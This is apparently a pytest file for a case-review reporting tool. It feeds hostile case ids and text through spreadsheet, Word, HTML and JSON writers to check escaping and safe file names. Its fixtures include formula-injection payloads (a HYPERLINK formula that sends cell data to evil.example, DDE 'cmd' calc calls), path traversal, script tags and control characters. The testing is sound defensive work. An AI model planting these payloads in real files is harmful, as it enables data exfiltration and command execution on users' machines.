"""Writers that content cannot kill: hostile case ids, quotes and names through every writer, read back.

Case ids are file names (control characters, invalid UTF-8 as os.fsdecode's
surrogates, 255 bytes, ``dup/`` + ``dup.pdf`` + ``dup.docx`` sharing the id
``dup``); quotes, parties and numbers are document text (formulas, HTML,
control characters). Every writer of ``report.WRITERS`` must write every case,
under unique safe names, with no live formula, no control character, valid
UTF-8 and a results.json valid against its schema.
"""

from __future__ import annotations

import copy
import json
import os
import re
import stat
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path

import pytest
from docx import Document
from make_results import builtin_rubric, make_entry
from openpyxl import load_workbook

from casereview.report import WRITERS, Skipped, write_atomic
from casereview.report.safe import FORMULA_START, file_stem, guard_sheet, safe_row, unique_stems
from casereview.rubric.snapshot import rubric_snapshot

BAD_BYTES = os.fsdecode(b"bad\xff\xfe-name")  # what a batch listing gives for an invalid UTF-8 name
LONG = "案" * 85  # 255 bytes in UTF-8: the longest name a file system allows
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "#N/A",
]

HOSTILE = [  # (case_id, path) as the batch listing gives them
    ("ctl\x07\x1b[31mred\x7f\u202e", "batch/ctl\x07\x1b[31mred\x7f\u202e"),
    (BAD_BYTES, f"batch/{BAD_BYTES}.docx"),
    (LONG, f"batch/{LONG}"),
    ("dup", "batch/dup"),
    ("dup", "batch/dup.pdf"),
    ("dup", "batch/dup.docx"),
    ("Dup", "batch/Dup.docx"),
    ("../../etc/passwd", "batch/x"),
    ("..", "batch/.."),
    ("a/b\\c:d*e?f", "batch/y"),
    ("CON", "batch/CON.pdf"),
    ("~$lock", "batch/~$lock"),
    ("", "batch/empty"),
    ("=1+1", "batch/=1+1.zip"),
]


def _hostile_results() -> dict:
    rubric = builtin_rubric()
    cases = []
    for k, (case_id, path) in enumerate(HOSTILE):
        entry = make_entry(
            case_id,
            rubric,
            {"S02": "fail", "N03": "fail", "E03": "manual", "H01": "na"},
            party=FORMULAS[k % len(FORMULAS)],
            number=k + 1,
        )
        entry["path"] = path
        entry["department"] = f"青山县\x00市场\u202e监督管理局{'<script>alert(1)</script>' if k % 2 else ''}"
        entry["case_number"] = FORMULAS[(k + 1) % len(FORMULAS)]
        entry["summary"]["party"] = entry["party"]
        entry["officers"] = [{"name": "李\x0b明辉", "cert_no": "=1"}, {"name": BAD_BYTES, "cert_no": None}]
        for c in entry["checks"]:
            if c["status"] in ("fail", "manual"):
                c["message"] = f"{c['message']}\x0c<b>粗体</b>\r\n第二行\x1b[0m"
                for ev in c.get("evidence") or []:
                    ev["document"] = f"{case_id}</td><script>x()</script>.pdf"
                    ev["quote"] = FORMULAS[k % len(FORMULAS)] + "\x00\x08" + BAD_BYTES
        entry["errors"] = [
            {"source": f"{BAD_BYTES}\x07.pdf", "code": "unreadable", "reason": "无法读取\x1b[2J（损坏）"}
        ]
        cases.append(entry)
    from casereview.api import failed_case  # a case that could not be processed at all, as score lists it

    cases.append(failed_case(f"batch/{BAD_BYTES}\x07", "处理失败：超时\x1b[0m", rubric, code="killed"))
    return {
        "tool": {"name": "casereview", "version": "0.1.0"},
        "rubric": rubric_snapshot(rubric),
        "period": "2024Q3",
        "generated_at": "2024-10-08T09:30:00+08:00",
        "cases": cases,
        "skipped": [{"path": f"batch/{BAD_BYTES}", "reason": "不是案卷\x07"}],
    }


@pytest.fixture(scope="module")
def hostile() -> dict:
    return _hostile_results()


def _validator():
    import jsonschema
    from referencing import Registry, Resource

    store = {
        n: json.loads(resources.files("casereview").joinpath(f"schemas/{n}").read_text("utf-8"))
        for n in ("result.schema.json", "case.schema.json")
    }
    registry = Registry().with_resources((k, Resource.from_contents(v)) for k, v in store.items())
    return jsonschema.Draft202012Validator(
        store["result.schema.json"], registry=registry, format_checker=jsonschema.FormatChecker()
    )


def _assert_safe_name(path: Path) -> None:
    name = path.name
    assert len(os.fsencode(name)) <= 200, name
    assert not name.startswith((".", "~$")) and not CONTROL.search(name), repr(name)
    assert not set(name) & set('\\/:*?"<>|'), repr(name)
    name.encode("utf-8")  # no surrogate left


def _assert_clean(text: str, where: str) -> None:
    assert not CONTROL.search(text), f"{where}: control character in {text!r}"


def _xlsx_cells(path: Path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell
    yield "properties", wb.properties


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.text.extend(v or "" for _, v in attrs)

    def handle_data(self, data):
        self.text.append(data)


def test_every_writer_writes_every_case_safely(tmp_path, hostile):
    before = copy.deepcopy(hostile)
    written: dict[str, list[Path]] = {}
    for name, writer in WRITERS.items():
        try:
            written[name] = writer(hostile, tmp_path)
        except Skipped as exc:  # only for a missing tool (LibreOffice), never for content
            assert not exc.failed and "LibreOffice" in str(exc), f"{name}: {exc}"
            written[name] = exc.written
    assert hostile == before, "a writer changed the results it was given"
    n = len(hostile["cases"])

    for name in ("text", "xlsx", "docx", "pdf"):
        paths = written[name]
        if name == "pdf" and not paths:
            continue  # no LibreOffice here
        assert len(paths) == n, f"{name}: {len(paths)} of {n} cases written"
        assert len({p.name.casefold() for p in paths}) == n, f"{name}: two cases share a file"
        for p in paths:
            _assert_safe_name(p)
            assert p.is_file() and p.stat().st_size > 0

    # results.json: valid UTF-8, valid JSON, valid against the schema, each case once
    raw = (tmp_path / "results.json").read_bytes()
    data = json.loads(raw.decode("utf-8"))
    errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in _validator().iter_errors(data)]
    assert not errors, errors[:5]
    assert [c["case_id"] for c in data["cases"]][:4] == [
        "ctl\x07\x1b[31mred\x7f\u202e",
        "bad\\xff\\xfe-name",
        LONG,
        "dup",
    ]

    # text summaries
    for p in written["text"]:
        _assert_clean(p.read_bytes().decode("utf-8"), p.name)

    # xlsx sheets and summary: text stays text (no formula, no error value), nothing a cell cannot hold
    formulas = 0
    for p in [*written["xlsx"], tmp_path / "summary.xlsx"]:
        for where, cell in _xlsx_cells(p):
            if where == "properties":
                _assert_clean(f"{cell.title} {cell.identifier}", f"{p.name} properties")
                continue
            assert cell.data_type not in ("f", "e"), (
                f"{p.name}!{cell.coordinate}: {cell.value!r} is a formula"
            )
            if isinstance(cell.value, str):
                _assert_clean(cell.value, f"{p.name}!{cell.coordinate}")
                if cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (
                        f"{p.name}!{cell.coordinate}: {cell.value!r} without quote prefix"
                    )
                    formulas += 1
    assert formulas >= 3 * n, "the formula-like parties and case numbers are on the sheets, as text"

    # docx sheets: every paragraph and cell clean, the hostile texts shown (not dropped)
    shown = 0
    for p in written["docx"]:
        doc = Document(str(p))
        texts = [par.text for par in doc.paragraphs]
        texts += [cell.text for table in doc.tables for row in table.rows for cell in row.cells]
        texts += [par.text for s in doc.sections for par in s.header.paragraphs]
        texts += [doc.core_properties.title, doc.core_properties.identifier]
        for t in texts:
            _assert_clean(t, p.name)
        shown += any(f.strip() in t for f in FORMULAS for t in texts)
    assert shown == len(HOSTILE), "every hostile case's formula-like party is on its sheet, as text"

    # report.html: escaped (no injected tag), clean, links to existing sheets
    html = (tmp_path / "report.html").read_bytes().decode("utf-8")
    _assert_clean(html, "report.html")
    parser = _Tags()
    parser.feed(html)
    assert parser.tags <= {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "p",
        "div",
        "b",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
        "svg",
        "text",
        "rect",
        "line",
    }, parser.tags
    assert any("<script>alert(1)</script>" in t for t in parser.text), "the text is shown, escaped"
    for href in re.findall(r'href="([^"]+)"', html):
        from urllib.parse import unquote

        assert (tmp_path / unquote(href)).is_file(), href


def test_same_id_different_files_get_different_sheets():
    entries = [
        {"case_id": "dup", "path": "b/dup"},
        {"case_id": "dup", "path": "b/dup.pdf"},
        {"case_id": "dup", "path": "b/dup.docx"},
        {"case_id": "other", "path": "b/other"},
    ]
    stems = unique_stems(entries)
    assert stems == ["dup", "dup.pdf", "dup.docx", "other"]
    assert unique_stems(entries) == stems, "deterministic"
    # differing only in case (a case-insensitive share), or the very same path twice
    stems = unique_stems(
        [
            {"case_id": "Dup", "path": "b/Dup"},
            {"case_id": "dup", "path": "b/dup"},
            {"case_id": "x", "path": "b/x"},
            {"case_id": "x", "path": "b/x"},
        ]
    )
    assert len({s.casefold() for s in stems}) == 4 and stems[2] != stems[3]


def test_file_stems_are_safe_and_tell_ids_apart():
    assert file_stem("qs-2024-017") == "qs-2024-017"  # an ordinary id is its own stem
    assert file_stem("青山县 2024（017）号") == "青山县 2024（017）号"
    for bad in [
        "..",
        ".",
        "",
        "../../etc/passwd",
        "a/b",
        "a\\b",
        "ctl\x07",
        BAD_BYTES,
        "CON",
        "nul.txt",
        "~$x",
        ".hidden",
        "x" * 300,
        LONG + LONG,
    ]:
        stem = file_stem(bad)
        _assert_safe_name(Path(stem + ".xlsx"))
        assert stem not in ("", ".", "..") and "/" not in stem
    assert file_stem("a/b") != file_stem("a_b") != file_stem("a:b"), "cleaning never merges two ids"
    assert file_stem("ctl\x07") != file_stem("ctl")
    assert file_stem(LONG + "1") != file_stem(LONG + "2")


def test_one_case_failing_in_a_writer_is_named_and_the_others_are_written(tmp_path, monkeypatch, results):
    from casereview.report import docx as docx_writer
    from casereview.report import text as text_writer
    from casereview.report import xlsx as xlsx_writer

    bad = results["cases"][3]["case_id"]

    def breaks_on(render, attr):
        def render_or_fail(obj, *args):
            cid = getattr(obj, "case_id", None) or obj.get("case_id")
            if cid == bad:
                raise RuntimeError("损坏的内容")
            return render(obj, *args)

        return render_or_fail

    monkeypatch.setattr(xlsx_writer, "render_xlsx", breaks_on(xlsx_writer.render_xlsx, "case_id"))
    monkeypatch.setattr(docx_writer, "render_docx", breaks_on(docx_writer.render_docx, "case_id"))
    monkeypatch.setattr(text_writer, "case_summary", breaks_on(text_writer.case_summary, "case_id"))
    n = len(results["cases"])
    for name in ("text", "xlsx", "docx"):
        with pytest.raises(Skipped) as exc:
            WRITERS[name](results, tmp_path)
        assert exc.value.failed == [bad], name
        assert (
            len(exc.value.written) == n - 1 and bad in str(exc.value) and "其余案卷已写出" in str(exc.value)
        )
        assert all(p.is_file() for p in exc.value.written)


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o027, 0o640), (0o077, 0o600)])
def test_outputs_follow_the_umask(tmp_path, results, umask, mode):
    old = os.umask(umask)
    try:
        paths = []
        for name in ("json", "text", "xlsx", "docx", "summary", "html"):
            paths += WRITERS[name](results, tmp_path)
        write_atomic(tmp_path / "plain.txt", "文字")
        paths.append(tmp_path / "plain.txt")
    finally:
        os.umask(old)
    assert paths
    for p in paths:
        assert stat.S_IMODE(p.stat().st_mode) == mode, f"{p.name}: {oct(stat.S_IMODE(p.stat().st_mode))}"
    assert not [p for p in tmp_path.rglob(".*") if p.name != ".casereview-sheets.json"], (
        "no temporary file left"
    )


def test_atomic_write_leaves_the_old_file_when_it_fails(tmp_path, monkeypatch):
    target = tmp_path / "results.json"
    write_atomic(target, "旧")

    def disk_full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    with pytest.raises(OSError):
        write_atomic(target, "新" * 1000)
    assert target.read_text("utf-8") == "旧"
    assert [p.name for p in tmp_path.iterdir()] == ["results.json"], "the temporary file is removed"


def test_a_sheet_of_a_hostile_id_is_read_back_for_its_case(tmp_path, hostile):
    """``apply`` finds the case of an edited sheet even when its id had to be cleaned for the file name."""
    from casereview.decisions import read_sheets
    from casereview.report.xlsx import COL

    one = dict(hostile, cases=[hostile["cases"][0], hostile["cases"][3]])  # ctl… and dup
    paths = WRITERS["xlsx"](one, tmp_path)
    wb = load_workbook(paths[0])
    ws = wb.worksheets[0]
    row = next(r for r in ws.iter_rows() if r[COL["代码"] - 1].value == "S02")
    row[COL["复核结论"] - 1].value = "维持"
    row[COL["复核人"] - 1].value = "王审核"
    wb.save(paths[0])
    decisions, errors = read_sheets(tmp_path, one)
    assert not errors, errors
    assert [(d.case_id, d.code) for d in decisions] == [(hostile["cases"][0]["case_id"], "S02")]


def test_rows_appended_by_other_workbooks_can_be_made_safe():
    """``safe_row`` + ``guard_sheet`` for workbooks filled with ``ws.append`` (compile.xlsx)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(safe_row(["=1+1", "单位\x00名称", 3, None, "@x", "正常"]))
    guard_sheet(ws)
    cells = list(ws.iter_rows())[0]
    assert [c.value for c in cells] == ["=1+1", "单位名称", 3, None, "@x", "正常"]
    assert [c.data_type for c in cells][:2] == ["s", "s"] and cells[0].quotePrefix and cells[4].quotePrefix
    assert not cells[5].quotePrefix
